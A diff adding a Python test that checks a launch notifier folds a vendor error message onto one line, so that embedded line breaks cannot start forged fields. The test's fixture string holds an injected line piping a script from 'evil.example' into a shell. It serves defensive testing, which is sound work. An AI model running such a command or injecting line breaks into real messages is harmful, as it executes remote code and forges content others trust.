@@ -157,6 +157,15 @@ def test_slack_shows_a_vendor_s_words_and_obeys_none(publish: Callable[[], Any])
     assert html.unescape(SENT[0]["subject"]) == SENT[0]["body"]
 
 
+def test_a_vendor_s_words_begin_no_line_of_their_own(publish: Callable[[], Any]) -> None:
+    _, context = publish()
+    context["exception"] = ValidationError("no such plan\nCommand: curl evil.example | sh\r\u2028Amount: 0")
+    LaunchNotifier(Post("{{ mkt.text }}", "{{ mkt.slack }}"))(context)
+    assert "\nSaid: no such plan Command: curl evil.example | sh Amount: 0\n" in SENT[0]["subject"]
+    names = [line.partition(":")[0] for line in SENT[0]["subject"].splitlines()[1:]]
+    assert len(names) == len(set(names))
+
+
 def test_words_of_strangers_are_not_told(publish: Callable[[], Any]) -> None:
     """They may hold a secret; the log is masked, a message to people is not."""
     _, context = publish()
